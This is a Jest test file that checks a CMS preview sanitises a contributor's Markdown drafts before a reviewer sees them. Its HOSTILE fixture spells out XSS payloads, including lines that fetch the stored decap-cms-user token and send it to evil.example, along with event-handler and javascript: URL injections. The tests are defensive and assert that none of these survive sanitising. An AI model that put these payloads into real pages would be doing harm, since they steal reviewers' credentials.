/** @jest-environment jsdom */
/**
 * A contributor's draft cannot run anything in a reviewer's CMS: the preview draws an article's or
 * a case study's Markdown sanitised (preview-html.ts, which src/cms/admin.tsx hands both previews),
 * so raw HTML in a draft brings no script, no event handler and no `javascript:` address into
 * /admin/, where the reviewer's GitHub token is kept. What a page shows still shows.
 */
import "@testing-library/jest-dom";
import path from "node:path";
import React from "react";
import { render, screen, within } from "@testing-library/react";
import { ArticlePreviewPage, CaseStudyPreviewPage } from "../preview";
import { contentSnapshot } from "../../lib/project/load";
import { articlePreview, caseStudyPreview, previewQuery } from "../preview-data";
import { markdownToHtml, readingMinutes } from "../../lib/insights/render-markdown";
import { previewMarkdownToHtml } from "../preview-html";

const snapshot = contentSnapshot(path.resolve(__dirname, "../../.."));
const query = previewQuery(snapshot);

/** What a contributor could write into a draft's body to take a reviewer's token. */
const HOSTILE = [
  "Intro paragraph.",
  `<img src="x" onerror="fetch('https://evil.example/?t='+localStorage.getItem('decap-cms-user'))">`,
  `<script>fetch("https://evil.example/?t=" + localStorage.getItem("decap-cms-user"))</script>`,
  '[Read more](javascript:alert(document.cookie)) and <a href=" JaVaScRiPt:alert(1)">this</a>',
  '<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)"></object>',
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<form action="https://evil.example/"><input name="token"><button formaction="javascript:alert(1)">Send</button></form>',
  '<div style="position:fixed;inset:0" onmouseover="alert(1)">Cover</div>',
  "<details open ontoggle=alert(1)><summary>More</summary></details>",
  "**Kept** with a [normal link](/services/local-seo/) and an ![image](/social/card.png).",
].join("\n\n");

/** Four weeks of Search Console data, newest first: the case study's page shows once it has an export. */
const EXPORTED = [
  "Date,Clicks,Impressions,CTR,Position",
  ...Array.from(
    { length: 28 },
    (_, i) => `${new Date(Date.UTC(2026, 2, 2 + i)).toISOString().slice(0, 10)},10,500,2.00%,9.1`,
  ).reverse(),
].join("\n");

/** Every way the rendered body could still run something, as "element attribute" lines. */
function runnable(container: Element): string[] {
  const found: string[] = [];
  for (const element of Array.from(container.querySelectorAll("*"))) {
    const name = element.tagName.toLowerCase();
    if (["script", "iframe", "object", "embed", "form", "style", "svg"].includes(name)) found.push(name);
    for (const attribute of Array.from(element.attributes)) {
      if (attribute.name.toLowerCase().startsWith("on")) found.push(`${name} ${attribute.name}`);
      if (attribute.name === "style") found.push(`${name} style`);
      // What a browser would follow: a scheme's name may be padded or split by whitespace.
      if (/^javascript:/i.test(attribute.value.replace(/\s/g, "")))
        found.push(`${name} ${attribute.name}=${attribute.value}`);
    }
  }
  return found;
}

describe("the CMS preview of a contributor's draft", () => {
  it("would carry the draft's scripts if it drew the build's rendering as it is", () => {
    // Parsed inertly: nothing in it runs here.
    const unsafe = new DOMParser().parseFromString(markdownToHtml(HOSTILE), "text/html").body;
    expect(runnable(unsafe)).toEqual(
      expect.arrayContaining(["script", "img onerror", "a href=javascript:alert(document.cookie)"]),
    );
  });

  it("draws an article's body with no script, event handler or javascript: address, and keeps what a page shows", () => {
    const file = snapshot.content.articles?.find((a) => a.file === "data/insights/google-core-update-first-30-days.md");
    if (!file) throw new Error("the article is not in the snapshot");
    render(
      <ArticlePreviewPage
        preview={articlePreview({ ...file, body: HOSTILE }, snapshot, previewMarkdownToHtml, readingMinutes)}
        query={query}
      />,
    );
    const body = document.querySelector("[data-article-body]");
    if (!body) throw new Error("the preview has no article body");
    expect(runnable(body)).toEqual([]);
    expect(body).toHaveTextContent("Intro paragraph.");
    expect(within(body as HTMLElement).getByText("Kept").tagName).toBe("STRONG");
    expect(within(body as HTMLElement).getByRole("link", { name: "normal link" })).toHaveAttribute(
      "href",
      "/services/local-seo/",
    );
    expect(within(body as HTMLElement).getByRole("img", { name: "image" })).toHaveAttribute("src", "/social/card.png");
    // The page around it is the site's own, drawn as before.
    expect(screen.getAllByRole("heading", { level: 1 })).toHaveLength(1);
  });

  it("draws a case study's body the same way", () => {
    render(
      <CaseStudyPreviewPage
        preview={caseStudyPreview(
          {
            file: "data/case-studies/a-client.md",
            data: {
              title: "A client found first",
              client: "A Client",
              industry: "Trades",
              city: "Sydney",
              services: ["local-seo"],
              start: "2026-03-16",
              summary: "What we did and what changed in the weeks after, as a test of the preview.",
              consent: true,
            },
            body: HOSTILE,
            export: { file: "data/case-studies/a-client.csv", text: EXPORTED },
          },
          snapshot,
          previewMarkdownToHtml,
          () => undefined,
        )}
        query={query}
      />,
    );
    const body = document.querySelector("[data-case-study-body]");
    if (!body) throw new Error("the preview has no case study body");
    expect(runnable(body)).toEqual([]);
    expect(body).toHaveTextContent("Intro paragraph.");
  });
});
